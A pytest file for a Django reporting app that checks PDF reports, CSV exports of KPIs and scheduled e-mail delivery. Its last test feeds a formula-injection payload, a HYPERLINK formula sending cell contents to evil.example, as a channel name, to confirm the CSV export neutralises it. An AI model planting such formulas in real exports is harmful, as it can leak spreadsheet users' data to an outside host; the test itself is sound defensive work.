"""The period report: PDF checked page by page, CSV of every number, scheduled e-mail."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
import time_machine
from django.core import mail
from django.urls import reverse

from koers.measurement import actions, report, tasks
from koers.measurement.models import ReportSchedule
from koers.measurement.periods import parse
from koers.measurement.tests.conftest import add_post
from tests.pdf import pdf_pages

pytestmark = pytest.mark.django_db


def test_pdf_report_in_dutch_has_its_figures_on_the_expected_pages(acme, anna, october_posts):
    for stage, count in ((1, 1000), (2, 250)):
        actions.record_manual_metric(
            acme, anna, metric="funnel_stage", day=date(2026, 10, 31), stage=stage, value=count
        )
    pages = pdf_pages(report.render_pdf(acme, parse("2026-10"), "nl"))
    assert len(pages) == 4
    assert "Rapportage Acme Fietsen" in pages[0]
    assert "Periode 1 oktober 2026 – 31 oktober 2026" in pages[0]
    assert "Engagementratio" in pages[0] and "11,0%" in pages[0]
    assert "Nog geen SMART-doelstellingen" in pages[1] and "Interacties per dag" in pages[1]
    assert "Stapconversie" in pages[2] and "25,0%" in pages[2]
    assert "1/4" in pages[0].replace(" ", "")
    assert "Topberichten" in pages[3]


def test_pdf_report_in_english(acme, october_posts):
    pages = pdf_pages(report.render_pdf(acme, parse("2026-10"), "en"))
    assert "Report Acme Fietsen" in pages[0]
    assert "Engagement rate" in pages[0] and "11.0%" in pages[0]


def test_report_page_offers_downloads_and_serves_a_pdf(acme, anna, client_for, october_posts):
    client = client_for(anna)
    url = reverse("measurement:report", args=[acme.slug])
    assert "Perioderapportage" in client.get(url).content.decode()
    response = client.get(url, {"period": "2026-10", "format": "pdf", "language": "en"})
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    assert 'filename="koers-acme-20261001-20261031-en.pdf"' in response["Content-Disposition"]


def test_csv_export_holds_every_kpi_with_empty_cells_for_no_value(
    acme, anna, client_for, october_posts
):
    response = client_for(anna).get(
        reverse("measurement:report", args=[acme.slug]), {"period": "2026-10", "format": "csv"}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    kpi_rows = [",".join(row) for row in rows if row[0] == "kpi"]
    assert len(kpi_rows) == 15
    assert "kpi,applause_rate,,Applausratio,7,14,2,per_post,,2026-10-01,2026-10-31" in kpi_rows
    assert "kpi,response_rate,,Responspercentage,,,,percent,,2026-10-01,2026-10-31" in kpi_rows


def test_a_due_schedule_mails_last_months_pdf_and_moves_to_next_month(acme, anna, october_posts):
    with time_machine.travel(datetime(2026, 10, 15, 12, tzinfo=UTC), tick=False):
        schedule = actions.create_report_schedule(
            acme, anna, recipients="pers@duinwijk.nl\nwethouder@duinwijk.nl",
            frequency="monthly", language="nl", campaign="",
        )  # fmt: skip
    assert schedule.next_run_at == datetime(2026, 11, 1, 6, tzinfo=UTC)  # 07:00 Amsterdam
    with time_machine.travel(datetime(2026, 11, 1, 6, 5, tzinfo=UTC), tick=False):
        tasks.send_due_reports.call()
        tasks.send_due_reports.call()  # a second run finds nothing due
    assert len(mail.outbox) == 1
    message = mail.outbox[0]
    assert message.to == ["pers@duinwijk.nl", "wethouder@duinwijk.nl"]
    assert message.subject == "Acme Fietsen: rapportage 2026-10"
    ((name, content, mimetype),) = message.attachments
    assert (name, mimetype) == ("koers-acme-20261001-20261031-nl.pdf", "application/pdf")
    assert content.startswith(b"%PDF")
    schedule.refresh_from_db()
    assert schedule.next_run_at == datetime(2026, 12, 1, 6, tzinfo=UTC)
    assert schedule.last_sent_at == datetime(2026, 11, 1, 6, 5, tzinfo=UTC)


def test_schedule_form_refuses_a_bad_address(acme, bram, client_for):
    response = client_for(bram).post(
        reverse("measurement:schedule-add", args=[acme.slug]),
        {"recipients": "pers@duinwijk.nl, geen-adres", "frequency": "monthly", "language": "nl"},
        follow=True,
    )
    assert "geen-adres is geen geldig e-mailadres." in response.content.decode()
    assert not ReportSchedule.objects.exists()


def test_csv_export_writes_channel_names_as_text_and_koers_own_numbers_as_numbers(
    acme, anna, client_for
):
    channel = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
    for day in (5, 12, 19):  # three Mondays 10:30 Amsterdam: a best time for the channel
        add_post(acme, f"b{day}", datetime(2026, 10, day, 8, 30, tzinfo=UTC), channel=channel,
                 likes=day, replies=0, reposts=0)  # fmt: skip
    response = client_for(anna).get(
        reverse("measurement:report", args=[acme.slug]), {"period": "2026-10", "format": "csv"}
    )
    text = response.content.decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    best = [r for r in rows if r[0] == "best_time"]
    assert best and {r[1] for r in best} == {"'" + channel}
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # The mean of 5, 12 and 19 likes: a number koers computed, written unquoted.
    assert '"best_time","\'=HYPERLINK(""https://evil.example/?""&A1,""klik"")",' in text
    assert ',12,"",3,"mean_engagements",' in text
